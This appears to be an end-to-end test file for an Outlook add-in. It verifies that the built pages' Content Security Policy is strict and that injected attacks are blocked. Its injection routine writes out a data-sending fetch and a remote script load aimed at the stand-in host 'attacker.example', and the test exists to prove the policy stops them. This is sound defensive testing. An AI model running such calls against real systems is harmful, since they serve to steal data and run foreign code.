// The Content Security Policy of the built pages, in Chromium: present before anything loads, no inline script and
// no eval, network limited to the add-in's origin, Microsoft Graph and Microsoft sign-in; no violation during the
// task pane's start, the sign-in dialog and the workbench journeys; and an injected script, eval or request elsewhere
// is really blocked (so this fails if the policy is removed or loosened). Run: npm run test:e2e
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { DIST, openWorkbench, paneFrame, reportCspViolations, useHarness } from './harness.mjs';

const harness = useHarness();

const PAGES = ['taskpane.html', 'dialog.html', 'workbench-pane.html', 'workbench-dialog.html', 'index.html'];

/** The policy a built page declares, as directive → sources, and where its <meta> sits. */
/** @param {string} page */
function policyOf(page) {
  const html = readFileSync(join(DIST, page), 'utf8');
  const meta = /<meta[^>]*http-equiv=["']?Content-Security-Policy["']?[^>]*>/i.exec(html);
  assert.ok(meta, `${page} declares a Content Security Policy`);
  const content = /content=(?:"([^"]*)"|'([^']*)')/i.exec(meta[0]);
  assert.ok(content, `${page}: the policy has a content attribute`);
  const directives = new Map(
    (content[1] ?? content[2])
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .filter(([name]) => name)
      .map(([name, ...sources]) => /** @type {[string, string[]]} */ ([name, sources])),
  );
  const firstScript = html.search(/<script\b/i);
  const firstLink = html.search(/<link\b/i);
  return { directives, before: [firstScript, firstLink].every((at) => at === -1 || meta.index < at), text: content[1] ?? content[2] };
}

const sourcesFor = (/** @type {Map<string, string[]>} */ directives, /** @type {string} */ name) =>
  directives.get(name) ?? directives.get('default-src') ?? [];

describe('the built pages declare a strict policy', () => {
  for (const page of PAGES) {
    test(page, () => {
      const { directives, before: first } = policyOf(page);
      assert.ok(first, `${page}: the policy comes before any script or link, so it governs them`);
      const scripts = sourcesFor(directives, 'script-src');
      assert.ok(scripts.includes("'self'"), `${page}: scripts from the add-in's origin`);
      for (const unsafe of [
        "'unsafe-inline'",
        "'unsafe-eval'",
        "'unsafe-hashes'",
        "'wasm-unsafe-eval'",
        '*',
        'data:',
        'blob:',
        'http:',
        'https:',
      ]) {
        assert.ok(!scripts.includes(unsafe), `${page}: script-src has no ${unsafe}`);
      }
      for (const source of scripts.filter((/** @type {string} */ s) => s !== "'self'")) {
        assert.match(
          source,
          /^https:\/\/(appsforoffice\.microsoft\.com|ajax\.aspnetcdn\.com)$/,
          `${page}: script-src allows only Office.js's CDN besides the origin`,
        );
      }
      assert.deepEqual(directives.get('object-src'), ["'none'"], `${page}: no plugins`);
      assert.deepEqual(directives.get('base-uri'), ["'self'"], `${page}: no <base> elsewhere`);
      assert.ok(
        !directives.has('frame-ancestors'),
        `${page}: frame-ancestors is ignored in a <meta> (Chromium logs an error): it belongs in a header`,
      );
      const connect = sourcesFor(directives, 'connect-src');
      for (const source of connect) {
        assert.ok(
          ["'self'", 'https://graph.microsoft.com', 'https://login.microsoftonline.com'].includes(source),
          `${page}: connect-src allows ${source}`,
        );
      }
    });
  }

  test('the workbench runs the task pane under the task pane’s own policy', () => {
    assert.equal(policyOf('workbench-pane.html').text, policyOf('taskpane.html').text);
    const pane = policyOf('taskpane.html').directives;
    assert.deepEqual(pane.get('connect-src'), ["'self'", 'https://graph.microsoft.com', 'https://login.microsoftonline.com']);
    assert.ok(pane.get('img-src')?.includes('https://media.licdn.com'), 'LinkedIn photos may load');
    assert.deepEqual(
      policyOf('dialog.html').directives.get('connect-src'),
      ["'self'"],
      'the sign-in dialog talks to nothing but its origin',
    );
  });
});

/**
 * A stand-in for Office.js in Outlook on the web: enough for the production task pane to start and show a mail from
 * one person. Served where Office's CDN would be, so the page loads it exactly as it loads Office.js.
 */
const FAKE_OFFICE_JS = `
window.Office = {
  HostType: { Outlook: 'Outlook' },
  MailboxEnums: { ItemType: { Message: 'message', Appointment: 'appointment' } },
  EventType: { ItemChanged: 'olkItemSelectedChanged' },
  AsyncResultStatus: { Succeeded: 'succeeded', Failed: 'failed' },
  onReady: () => Promise.resolve({ host: 'Outlook', platform: 'OfficeOnline' }),
  context: {
    diagnostics: { platform: 'OfficeOnline' },
    displayLanguage: 'en-US',
    requirements: { isSetSupported: () => true },
    roamingSettings: { get: () => undefined, set() {}, remove() {}, saveAsync: (done) => done({ status: 'succeeded' }) },
    mailbox: {
      userProfile: { emailAddress: 'megan@contoso.com', displayName: 'Megan Bowen' },
      item: { itemId: 'item-1', itemType: 'message', subject: 'Hello', from: { emailAddress: 'aiko@fabrikam.com', displayName: 'Aiko Tanaka' }, to: [{ emailAddress: 'megan@contoso.com', displayName: 'Megan Bowen' }], cc: [] },
      addHandlerAsync: (type, handler, done) => done && done({ status: 'succeeded' }),
    },
    ui: { messageParent: (message) => { window.__toPane = message; } },
  },
};`;

/** A fresh context for a page of the add-in as Outlook would load it, recording console errors (CSP violations among them). */
/** @param {string} path */
async function openAddInPage(path) {
  const context = await harness.browser.newContext({ viewport: { width: 320, height: 800 } });
  await context.route('https://appsforoffice.microsoft.com/**', (route) =>
    route.fulfill({ status: 200, contentType: 'text/javascript', body: FAKE_OFFICE_JS }),
  );
  // The policy file, as the service (here in development mode, as `npm run serve` does) puts it into taskpane.html.
  const policyText = JSON.stringify({
    version: 1,
    linkedInAccountConnections: 'yes',
    environment: { cloud: 'worldwide', mailboxGeo: 'NAM', tenantCountry: 'US' },
  });
  const told = await fetch(new URL('__workbench/controls', harness.base), {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      policyText,
      cloud: 'worldwide',
      mailboxGeo: 'NAM',
      tenantCountry: 'US',
      groupMembership: 'member',
      latencyMs: 0,
      faults: { lookup: 'none', insights: 'none' },
    }),
  });
  assert.equal(told.status, 200);
  await context.addInitScript(reportCspViolations);
  /** @type {string[]} */
  const errors = [];
  /** @type {string[]} */
  const policyRequests = [];
  context.on('request', (request) => request.url().endsWith('/linkedin-policy.json') && policyRequests.push(request.url()));
  context.on('page', (page) => {
    page.on('console', (message) => {
      if (message.type() === 'error') errors.push(message.text());
    });
    page.on('pageerror', (error) => errors.push(String(error)));
  });
  const page = await context.newPage();
  await page.goto(`${harness.base}${path}`);
  return { context, page, errors, policyRequests };
}

/** Tries what an attacker's injected markup would: an inline script, eval, a script and a request from elsewhere. */
/** @param {import('playwright-core').Frame} frame */
async function attemptInjections(frame) {
  return frame.evaluate(async () => {
    /** @type {string[]} */
    const seen = [];
    const injected = /** @type {{ __injectedInlineRan?: boolean, __injectedStringTimerRan?: boolean }} */ (/** @type {unknown} */ (window));
    const listener = (/** @type {SecurityPolicyViolationEvent} */ event) => seen.push(event.effectiveDirective);
    document.addEventListener('securitypolicyviolation', listener);
    const inline = document.createElement('script');
    inline.textContent = 'window.__injectedInlineRan = true;';
    document.head.append(inline);
    // eval from the page's own tasks (code Playwright evaluates directly is exempt from the policy).
    const evalResult = await new Promise((resolve) => {
      setTimeout(() => {
        try {
          resolve(window.eval('"eval ran"'));
        } catch (error) {
          resolve(/** @type {Error} */ (error).name);
        }
      }, 0);
    });
    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the attack under test: a string timer, which the policy must block
    setTimeout('window.__injectedStringTimerRan = true;', 0);
    let fetchResult;
    try {
      await fetch('https://attacker.example/collect', { method: 'POST', body: 'x' });
      fetchResult = 'sent';
    } catch (error) {
      fetchResult = /** @type {Error} */ (error).name;
    }
    const remote = document.createElement('script');
    remote.src = 'https://attacker.example/evil.js';
    await new Promise((resolve) => {
      remote.onerror = resolve;
      remote.onload = resolve;
      document.head.append(remote);
    });
    await new Promise((resolve) => setTimeout(resolve, 50));
    document.removeEventListener('securitypolicyviolation', listener);
    return {
      inlineRan: injected.__injectedInlineRan === true || injected.__injectedStringTimerRan === true,
      evalResult,
      fetchResult,
      violations: [...new Set(seen)].sort(),
    };
  });
}

const BLOCKED = {
  inlineRan: false,
  evalResult: 'EvalError',
  fetchResult: 'TypeError',
  violations: ['connect-src', 'script-src', 'script-src-elem'],
};

/** Asserts the page met no violation (nor any error) so far, then that every injection is blocked and reported. */
/** @param {import('playwright-core').Frame} frame @param {string[]} errors */
async function assertInjectionsBlocked(frame, errors) {
  assert.deepEqual(errors, [], 'no CSP violation (nor any other error) before the injections');
  assert.deepEqual(await attemptInjections(frame), BLOCKED);
  assert.ok(
    errors.length > 0 && errors.every((text) => /CSP violation|Content Security Policy|attacker\.example/.test(text)),
    `the blocked injections, and only they, are reported:\n${errors.join('\n')}`,
  );
  errors.length = 0;
}

describe('in Chromium: nothing the add-in does is blocked; what an attacker would inject is', () => {
  test('the production task pane starts and shows the card without a violation', async () => {
    const session = await openAddInPage('taskpane.html');
    // No Entra app in this build: the lookup can't get a token and says so; the pane, its sections and Fluent all ran.
    await session.page.getByRole('option', { name: /Aiko Tanaka/ }).waitFor();
    await session.page.getByRole('heading', { name: 'Settings' }).waitFor();
    await session.page.getByText("The add-in couldn't sign in to the LinkedIn card service.").waitFor();
    await session.page.waitForTimeout(300);
    await session.context.close();
    assert.deepEqual(session.errors, [], 'no CSP violation (nor any other error)');
    // The policy file came inside the page (a JSON block the CSP lets be as it is): the pane never asked for it.
    assert.deepEqual(session.policyRequests, [], 'the pane read the policy file from the page');
  });

  test('in the task pane an injected inline script, eval, a foreign script and a request elsewhere are all blocked', async () => {
    const session = await openAddInPage('taskpane.html');
    await session.page.getByRole('option', { name: /Aiko Tanaka/ }).waitFor();
    await assertInjectionsBlocked(session.page.mainFrame(), session.errors);
    await session.context.close();
  });

  test('the sign-in dialog goes to the authorize page and back without a violation, and blocks injections', async () => {
    const state = 'A'.repeat(43);
    const session = await openAddInPage(`dialog.html?state=${state}&challenge=${'B'.repeat(43)}&consent=twoWay`);
    const { page } = session;
    // The service's authorize step, then the simulated LinkedIn's consent page (its own origin and policy), and back.
    await page.getByRole('button', { name: 'Allow' }).click();
    await page.getByText('Done. You can close this window.').waitFor();
    assert.match(
      await page.evaluate(() => /** @type {{ __toPane?: string }} */ (/** @type {unknown} */ (window)).__toPane ?? ''),
      /"outcome":"code"/,
      'the dialog answered the pane through Office',
    );
    await assertInjectionsBlocked(page.mainFrame(), session.errors);
    await session.context.close();
  });

  test('the workbench: read, switch, connect in the dialog, disconnect — no violation anywhere; injections blocked in its pane', async () => {
    const session = await openWorkbench(harness);
    const { page, pane, context } = session;
    await pane.getByText('Partnerships lead at Fabrikam · B2B SaaS').waitFor();
    await pane.getByRole('option', { name: /Alex Wilber/ }).click();
    await pane.getByText('Finance manager at Contoso').waitFor();
    await pane.getByRole('option', { name: /Aiko Tanaka/ }).click();
    await pane.getByRole('button', { name: 'Connect your LinkedIn account' }).click();
    await pane.getByRole('radio', { name: 'Share data both ways' }).check();
    const [popup] = await Promise.all([context.waitForEvent('page'), pane.getByRole('button', { name: 'Continue to LinkedIn' }).click()]);
    await popup.getByRole('button', { name: 'Allow' }).click();
    await pane.getByText('12 mutual connections').waitFor();
    await pane.getByRole('button', { name: 'Show people you work with' }).click();
    await pane.getByRole('button', { name: 'Show people you work with' }).waitFor({ state: 'detached' });
    await pane.getByRole('button', { name: 'Disconnect' }).click();
    await pane.getByRole('button', { name: 'Disconnect' }).click();
    await pane.getByText(/Your LinkedIn account is disconnected/).waitFor();
    const frame = paneFrame(page);
    await assertInjectionsBlocked(frame, session.errors);
    await context.close();
    assert.deepEqual(session.errors, []);
  });
});
